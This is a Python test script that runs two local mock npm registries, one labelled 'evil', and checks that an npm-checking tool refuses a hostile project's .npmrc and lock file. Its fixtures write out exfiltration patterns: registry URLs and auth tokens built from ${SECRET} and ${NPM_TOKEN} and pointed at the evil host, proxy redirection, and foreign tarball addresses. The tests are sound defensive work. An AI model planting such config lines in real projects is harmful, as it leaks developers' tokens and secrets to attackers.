"""A project's own .npmrc, when the project is what is being checked: nothing secret follows its wishes."""
import base64
import hashlib
import http.server
import json
import os
import threading

from tap import check, done, ok, package, put, scratch, tgz_of, verdicts

SECRET, TOKEN = "hush-hush-3141", "token-2718"


class Host:
    """Answers as a registry of one package, and keeps all that it was told."""

    def __init__(self, name="plain"):
        self.told, self.tarball = [], tgz_of({"package.json": package(name, "1.0.0"), "index.js": "module.exports = 1;\n"})
        host = self

        class Handler(http.server.BaseHTTPRequestHandler):
            protocol_version = "HTTP/1.1"

            def log_message(self, *a):
                pass

            def do_GET(self):
                host.told.append(f"{self.path}\n{self.headers}")
                body = host.tarball if self.path.endswith(".tgz") else json.dumps(host.packument(name)).encode()
                self.send_response(200)
                self.send_header("content-length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        threading.Thread(target=self.server.serve_forever, daemon=True).start()
        self.at = f"127.0.0.1:{self.server.server_port}"

    def integrity(self):
        return "sha512-" + base64.b64encode(hashlib.sha512(self.tarball).digest()).decode()

    def packument(self, name):
        return {"_id": name, "name": name, "dist-tags": {"latest": "1.0.0"}, "versions": {"1.0.0": {
            "name": name, "version": "1.0.0",
            "dist": {"integrity": self.integrity(), "tarball": f"http://{self.at}/{name}-1.0.0.tgz"}}}}

    def take(self):
        told, self.told = self.told, []
        return told


def secretive(told):
    return not any(SECRET in t or TOKEN in t for t in told)


def env(d, own):
    put(f"{d}/home/.npmrc", f"registry=http://{own.at}/\n//{own.at}/:_authToken={TOKEN}\n")
    return {"HOME": f"{d}/home", "SECRET": SECRET, "NPM_TOKEN": SECRET, "npm_config_cache": f"{d}/cache",
            "npm_config_registry": "", "npm_config_fetch_retries": "0"}


def here(d, own, evil):
    """The current directory is the hostile project."""
    e, p = env(d, own), f"{d}/hostile"
    put(f"{p}/package.json", package("hostile"))
    put(f"{p}/.npmrc", f"registry=http://{evil.at}/${{SECRET}}/\n//{evil.at}/:_authToken=${{NPM_TOKEN}}\n")
    r = check("plain", env=e, cwd=p)
    told = evil.take()
    ok(told and secretive(told), "the registry that it names is asked, and told no secret", told)
    ok(b"variables" in r.err and b"REGISTRIES" in r.err, "and that something was left out is said", r)
    own.take()
    put(f"{p}/.npmrc", f"registry=http://${{SECRET}}.invalid/\n@s:registry=http://${{SECRET}}.invalid/\n")
    r = check("plain", "@s/part", env=e, cwd=p)
    ok(r.code == 3 and verdicts(r) == ["unknown"] * 2 and not own.take(), "an address made of a variable is no address", r)
    ok(SECRET.encode() not in r.out + r.err, "and its value is not shown")
    put(f"{p}/.npmrc", f"proxy=http://{evil.at}/\nhttps-proxy=http://{evil.at}/\nuserconfig={p}/other\nstrict-ssl=false\n"
        f"user-agent=${{SECRET}}\ncache={p}/cache\n")
    put(f"{p}/other", f"registry=http://{evil.at}/\n")
    r = check("plain", env=e, cwd=p)
    told = own.take()
    ok(r.code == 0 and not evil.take(), "neither proxy nor another user file is taken from it", r)
    ok(any(TOKEN in t for t in told), "the user's registry gets the user's token", told)
    put(f"{p}/.npmrc", f"//{own.at}/:_authToken=${{NPM_TOKEN}}\n")
    r = check("plain", env=e, cwd=p)
    told = own.take()
    ok(r.code == 0 and any(SECRET in t for t in told), "a token by variable for the user's own registry works", told)


def elsewhere(d, own, evil):
    """The hostile project is named on the command line."""
    e, p = env(d, own), f"{d}/named"
    put(f"{p}/package.json", package("named"))
    put(f"{p}/.npmrc", f"registry=http://{evil.at}/\n//{evil.at}/:_authToken=${{NPM_TOKEN}}\n")
    lock = {"name": "named", "version": "1.0.0", "lockfileVersion": 3, "packages": {
        "": {"name": "named", "version": "1.0.0", "dependencies": {"plain": "1.0.0"}},
        "node_modules/plain": {"version": "1.0.0", "integrity": own.integrity()}}}
    put(f"{p}/package-lock.json", json.dumps(lock))
    r = check(p, env=e, cwd=d)
    ok(r.code == 0 and own.take() and not evil.take(), "its .npmrc is not read", r)
    lock["packages"]["node_modules/plain"]["resolved"] = f"http://{evil.at}/plain-1.0.0.tgz"
    put(f"{p}/package-lock.json", json.dumps(lock))
    r = check(p, env=e, cwd=d)
    ok(r.code == 3 and not evil.take() and b"not public" in r.out, "an address inside, in its lock file, is not asked", r)
    r = check(p, "--foreign-tarballs", "refuse", env=e, cwd=d)
    ok(r.code == 3 and not evil.take() and b"says to refuse" in r.out, "nor when nothing foreign is", r)
    r = check(p, "--foreign-tarballs", "any", env=e, cwd=d)
    told = evil.take()
    ok(r.code == 0 and told and secretive(told), "an address in its lock file gets no secret", told)
    ok(not any("authorization" in t.lower() for t in told), "nor any credentials", told)
    r = check(p, env={**e, "npm_config_@other:registry": f"http://{evil.at}/"}, cwd=d)
    ok(r.code == 0 and evil.take(), "a registry that the user names, be it for others, is no foreign place", r)


def broken(d, own, evil):
    """What cannot be read is not passed over."""
    e, p = env(d, own), f"{d}/broken"
    put(f"{p}/package.json", package("broken"))
    put(f"{p}/.npmrc", "a=" + "\\" * 100 + "\n" + "[[[\n\0\0=\0\n" + f"registry=http://{own.at}/\n" * 1000)
    r = check("plain", env=e, cwd=p)
    ok(r.code == 0, "odd lines are passed over as npm does", r)
    put(f"{p}/w/package.json", package("w"))
    put(f"{p}/package.json", "[" * 100000)
    r = check("plain", env=e, cwd=f"{p}/w")
    ok(r.code == 0, "a package.json above that is none", r)


own, evil = Host(), Host()
with scratch() as where:
    for part in (here, elsewhere, broken):
        part(where, own, evil)
done()
